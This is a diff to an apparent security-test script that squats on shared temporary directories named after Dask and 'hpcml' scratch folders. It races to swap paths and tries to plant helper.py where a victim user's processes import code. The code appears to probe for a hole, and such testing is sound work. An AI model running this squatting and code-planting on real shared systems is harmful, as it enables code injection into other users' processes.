@@ -30,7 +30,7 @@ def plant(folder):
 
 os.umask(0)
 shared = [f"{place}/dask-scratch-space", f"{place}/dask-worker-space", f"{place}/dask-scratch-space-{victim}",
-          f"{place}/hpcml", f"{place}/hpcml-{victim}", f"{place}/hpcml-aaaaaaaa", f"{place}/runtime-{victim}"]
+          f"{place}/hpcml", f"{place}/hpcml-{victim}", f"{place}/hpcml_aaaaaaaa", f"{place}/runtime-{victim}"]
 for folder in shared:
     plant(folder)
 stop = threading.Event()
@@ -58,7 +58,7 @@ while not stop.is_set():
                     os.mkdir(path)
                     fill(path)
             attempt(f"swapped {path}", swap)
-            if path.startswith(f"{place}/hpcml-"):
+            if path.startswith((f"{place}/hpcml-", f"{place}/hpcml_")):
                 attempt(f"listed {path}", lambda: os.listdir(path))
                 attempt(f"wrote below {path}", lambda: open(f"{path}/helper.py", "w"))
                 attempt(f"wrote where Dask imports below {path}", lambda: fill(f"{path}/dask-scratch-space"))
@@ -79,7 +79,7 @@ os.umask(0)
 made = 0
 def word(letters, count): return "".join(random.choice(letters) for _ in range(count))
 low = string.ascii_lowercase + string.digits + "_"
-forms = [lambda: "hpcml-" + word(low, 8), lambda: f"hpcml-{random.randint(1, 99)}-" + word("0123456789abcdef", 16),
+forms = [lambda: "hpcml_" + word(low, 8), lambda: f"hpcml-{random.randint(1, 99)}-" + word("0123456789abcdef", 16),
          lambda: "hpcml." + word(string.ascii_letters, 8), lambda: "tmp" + word(low, 8), lambda: "pymp-" + word(low, 8),
          lambda: "psm_" + word("0123456789abcdef", 8), lambda: "sem.mp-" + word(low, 8), lambda: f"joblib_memmapping_folder_{random.randint(1, 9999)}",
          lambda: "ucx_shm_posix_" + word("0123456789abcdef", 8), lambda: f"scheduler-{word(low, 8)}", lambda: f"worker-{word(low, 8)}",
